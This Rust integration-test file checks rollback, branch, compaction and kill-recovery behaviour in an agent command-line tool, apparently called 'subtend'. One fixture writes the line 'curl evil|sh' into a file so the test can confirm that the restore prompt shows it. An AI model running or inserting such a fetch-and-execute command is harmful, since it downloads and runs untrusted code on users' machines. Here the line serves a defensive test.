//! Files that a rollback or a branch restores, and writes whose results are not recorded because of a kill.

use super::call::*;
#[cfg(target_os = "linux")]
use super::terminal::TerminalSession;

#[cfg(unix)]
use super::worktree;

fn write(path: &str, content: &str) -> Value {
    json!({"calls": [{"tool": "write", "args": {"path": path, "content": content}}]})
}

fn rules(user: &User, rules: &Value) -> String {
    user.script(&json!({ "rules": rules }).to_string())
}

fn script(user: &User, steps: &[Value]) -> String {
    rules(user, &json!([{"agent": "*", "steps": steps}]))
}

fn run(user: &User, model: &str, code: i32) -> String {
    let done = user.call(&["run", "--json", "--model", model, "go", "--allow", "fs.*", "--allow", "shell.run"]);
    assert_eq!(done.code, Some(code), "{done:?}");
    let end = last_event(&done.out);
    end["session"].as_str().expect("an id").to_owned()
}

fn content(user: &User, path: &str) -> Option<String> {
    std::fs::read_to_string(user.workspace().join(path)).ok()
}

fn is_rolled_back(user: &User, id: &str) -> bool {
    let shown = user.json(&["show", "--json", id]);
    shown["entries"].as_array().expect("entries").iter().any(|entry| entry["rolled_back"] == true)
}

fn assert_output(done: &CommandOutput, code: i32, text: &str) {
    assert!(done.code == Some(code) && (done.out.contains(text) || done.err.contains(text)), "{text}: {done:?}");
}

/// Returns a session whose only run wrote `a.txt` and `new/b.txt`, and failed.
fn failed_session(user: &User) -> String {
    user.file("a.txt", "one\ntwo\n");
    let steps = [write("a.txt", "one\nTWO\n"), write("new/b.txt", "b\n"), json!({"text": "no", "refuse": true})];
    let model = script(user, &steps);
    run(user, &model, 1)
}

#[test]
fn x15_rollback_restores_files_with_the_messages() {
    let user = User::new();
    let id = failed_session(&user);
    assert_output(&user.call(&["rollback", &id, "--files"]), 2, "Use --yes to restore without asking");
    assert!(!is_rolled_back(&user, &id));
    let output = user.call(&["rollback", &id]);
    assert_output(&output, 0, "files that it changed stay as they are\n2 files can be restored: `subtend rollback ");
    assert_eq!(user.json(&["rollback", &id, "--json"])["restorable_files"], json!(2));
    assert_eq!(content(&user, "a.txt").as_deref(), Some("one\nTWO\n"));
    let files = user.call(&["rollback", &id, "--files", "--yes"]);
    assert_output(&files, 0, "2 files restored: a.txt, new/b.txt; files that commands changed stay");
    assert_eq!(content(&user, "a.txt").as_deref(), Some("one\ntwo\n"));
    assert!(!user.workspace().join("new").exists(), "its directory remains");
    assert_output(&user.call(&["rollback", &id, "--files", "--yes"]), 0, "no file had to be restored");
    let again = user.json(&["rollback", &id, "--files", "--yes", "--json"]);
    assert_eq!((&again["rolled_back"], &again["files"]), (&json!(true), &json!([])));
    let doctor = user.call(&["doctor"]);
    assert_output(&doctor, doctor.code.expect("a code"), "checkpoints");
    // Deleting the session erases the saved files.
    let saved = user.data().join("checkpoints").join(&id);
    assert!(saved.exists());
    assert_eq!(user.call(&["delete", &id, "--yes"]).code, Some(0));
    assert!(!saved.exists());
    assert_eq!(user.call(&["verify"]).code, Some(0));
}

/// Large files hide others in the question, or are hidden themselves. The control: a small file is shown.
#[cfg(target_os = "linux")]
#[test]
fn x15_question_about_a_restore_names_hidden_files() {
    let user = User::new();
    let decoys = ["f0", "f1", "f2", "f3"];
    decoys.iter().for_each(|name| user.file(name, &format!("{name}\n{}", "\u{1}".repeat(1 << 19))));
    user.file("z.sh", "curl evil|sh\n");
    let mut steps: Vec<Value> = decoys.iter().map(|name| write(name, "x")).collect();
    steps.extend([write("new.sh", "n\n"), write("z.sh", "#!/bin/sh\n"), json!({"text": "no", "refuse": true})]);
    let id = run(&user, &script(&user, &steps), 1);
    let mut asked = TerminalSession::at_terminal(&user, &["rollback", &id, "--run", "1", "--files"]);
    let question = asked.until("Restore? [y/N]");
    asked.types("n\r");
    assert_eq!(asked.wait_for_exit().0, Some(1));
    assert!(
        question.contains("+curl evil|sh\r\n4 files not shown above:\r\n  f0: too long to show: 1 bytes ("),
        "{question}"
    );
    assert_eq!(question.matches("after\r\n").count(), 4, "{question}");
    let command = format!("`subtend rollback {} --run 1 --files", &id[id.len() - 6..]);
    assert!(question.contains(&command) && question.contains(" --print FILE` prints in full"), "{question}");
    let printed = user.call(&["rollback", &id, "--run", "1", "--files", "--print", "f2"]);
    assert_eq!(printed.code, Some(0));
    assert!(printed.out.starts_with("f2\n<U+0001>") && printed.out.len() >= 3 + (8 << 19), "{}", printed.out.len());
    assert_output(&user.call(&["rollback", &id, "--files", "--print", "new.sh"]), 0, "`new.sh` would be removed");
    assert_eq!(content(&user, "z.sh").as_deref(), Some("#!/bin/sh\n"), "a file was restored");
    assert!(!is_rolled_back(&user, &id));
}

/// A compaction completes a deletion that was interrupted before it erased checkpoints.
#[test]
fn x15_compaction_erases_checkpoints_of_deleted_sessions() {
    let user = User::new();
    let id = failed_session(&user);
    assert_eq!(user.call(&["delete", &id, "--yes"]).code, Some(0));
    let left = user.data().join("checkpoints").join(&id);
    std::fs::create_dir_all(&left).expect("a directory");
    std::fs::write(left.join("0".repeat(32)), "secret").expect("written");
    assert_eq!(user.call(&["compact"]).code, Some(0));
    assert!(!left.exists());
}

#[test]
fn x15_rollback_refuses_files_changed_by_others() {
    let user = User::new();
    let id = failed_session(&user);
    user.file("a.txt", "mine\n");
    let refused = user.call(&["rollback", &id, "--files", "--yes"]);
    let why =
        "nothing is rolled back, and no file is restored: `a.txt` was changed later by another program; omit --files";
    assert_output(&refused, 1, why);
    assert_eq!(
        (content(&user, "a.txt").as_deref(), content(&user, "new/b.txt").as_deref()),
        (Some("mine\n"), Some("b\n"))
    );
    assert!(!is_rolled_back(&user, &id), "the messages are rolled back");
    assert_output(&user.call(&["rollback", &id]), 0, "2 files can be restored");
}

#[test]
fn x15_branch_restores_files_to_its_message() {
    let user = User::new();
    user.file("a.txt", "zero\n");
    let steps = [
        write("a.txt", "one\n"),
        json!({"text": "first"}),
        write("a.txt", "two\n"),
        write("b.txt", "two\n"),
        json!({"text": "second"}),
    ];
    let model = script(&user, &steps);
    let id = run(&user, &model, 0);
    user.succeeds(&["send", "--model", &model, &id, "more"]);
    let shown = user.json(&["show", "--json", &id]);
    let first = shown["entries"].as_array().expect("entries").iter().find(|entry| entry["text"] == "first");
    let at = format!("{id}:{}", first.expect("an answer")["seq"]);
    let output = user.call(&["branch", &at]);
    assert_output(&output, 0, "2 files changed after that message; branch with --files to restore them");
    assert_eq!(content(&user, "a.txt").as_deref(), Some("two\n"));
    assert_output(&user.call(&["branch", &at, "--files"]), 2, "nothing is branched off: there is no terminal");
    let files = user.json(&["branch", &at, "--files", "--yes", "--json"]);
    assert_eq!(files["files"], json!(["a.txt", "b.txt"]));
    assert_eq!((content(&user, "a.txt").as_deref(), content(&user, "b.txt")), (Some("one\n"), None));
    let branch = files["session"].as_str().expect("an id");
    assert!(user.json(&["show", "--json", branch])["entries"].is_array());
    // No file changed after the last message, so the branch reports none.
    assert_eq!(user.call(&["branch", &id]).err, "");
}

/// A rollback of a parent also restores files that its subagents wrote in the same workspace, but no worktrees.
#[cfg(unix)]
#[test]
fn x15_rollback_restores_files_written_by_subagents() {
    let user = User::new();
    worktree::repository(&user);
    user.file(".subtend/agents/worker.md", "---\nmode: all\ndescription: Works.\n---\nWork.\n");
    let task = |more: &Value| {
        let mut args = json!({"subagent_type": "worker", "prompt": "work"});
        args.as_object_mut().expect("an object").extend(more.as_object().cloned().unwrap_or_default());
        json!({"calls": [{"tool": "task", "args": args}]})
    };
    let parent = [
        task(&json!({})),
        task(&worktree::isolated()),
        write("a.txt", "by the parent\n"),
        json!({"text": "no", "refuse": true}),
    ];
    let worker = [write("a.txt", "by the worker\n"), json!({"text": "done"})];
    let model = rules(&user, &json!([{"agent": "worker", "steps": worker}, {"agent": "*", "steps": parent}]));
    let id = run(&user, &model, 1);
    let file_in_worktree = |user: &User| {
        let listed = user.json(&["worktree", "list", "--json"]);
        let path = listed[0]["path"].as_str().expect("a path").to_owned();
        std::fs::read_to_string(std::path::Path::new(&path).join("a.txt")).ok()
    };
    assert_eq!(file_in_worktree(&user).as_deref(), Some("by the worker\n"));
    let done = user.json(&["rollback", &id, "--files", "--yes", "--json"]);
    assert_eq!(done["files"], json!(["a.txt"]), "{done}");
    assert_eq!(content(&user, "a.txt").as_deref(), Some("one\ntwo\n"));
    // The files of a worktree stay: a person merges or discards them as a whole.
    assert_eq!(file_in_worktree(&user).as_deref(), Some("by the worker\n"));
}

/// A host dies after a write and before the record of its result: the state of the file is reported with its diff.
#[test]
fn x15_write_without_a_result_is_reported_with_its_diff() {
    let user = User::new();
    user.file("a.txt", "one\n");
    let sleep = json!({"calls": [{"tool": "shell", "args": {"command": "sleep 1000"}}]});
    let model = script(&user, &[write("a.txt", "two\n"), sleep, json!({"text": "done"})]);
    let args = ["run", "--json", "--model", &model, "go", "--allow", "fs.*", "--allow", "shell.run"];
    let killed = user.start(&args);
    killed.until(|event| event["record"]["call_started"]["call"]["turn"] == json!(2));
    killed.signal("KILL");
    assert_eq!(killed.done().code, None);
    let id = only_session(&user);
    // Make the write appear as the call of the second turn, which has no result.
    let dir = user.data().join("checkpoints").join(&id);
    let saved = dir.join(format!("{:020}.json", 1));
    let text = std::fs::read_to_string(&saved).expect("a checkpoint");
    let mut checkpoint: Value = serde_json::from_str(&text).expect("json");
    checkpoint["call"]["turn"] = json!(2);
    std::fs::write(&saved, checkpoint.to_string()).expect("written");
    let says_so = "the result of the write to `a.txt` is not recorded; the file was written";
    let before = user.call(&["show", &id]);
    assert_output(&before, 0, says_so);
    // The kill may leave the temporary file of the write, which is removed only without a recorded result.
    let (left, foreign) = (format!(".subtend-{id}-1-2.0.tmp"), format!(".subtend-{id}-1-1.0.tmp"));
    user.file(&left, "tw");
    user.file(&foreign, "tw");
    let recovered = user.call(&["recover"]);
    assert_output(&recovered, 0, says_so);
    assert_eq!((content(&user, &left), content(&user, &foreign).as_deref()), (None, Some("tw")));
    assert!(recovered.out.contains("  -one\n  +two"), "{recovered:?}");
    // The session keeps the report.
    let shown = user.json(&["show", "--json", &id]);
    assert_eq!(shown["unrecorded_writes"][0]["fate"], "written", "{shown}");
    assert!(user.json(&["rollback", &id, "--files", "--yes", "--json"])["files"] == json!(["a.txt"]));
    assert_eq!(content(&user, "a.txt").as_deref(), Some("one\n"));
}

fn only_session(user: &User) -> String {
    user.json(&["sessions", "--json"])[0]["id"].as_str().expect("an id").to_owned()
}
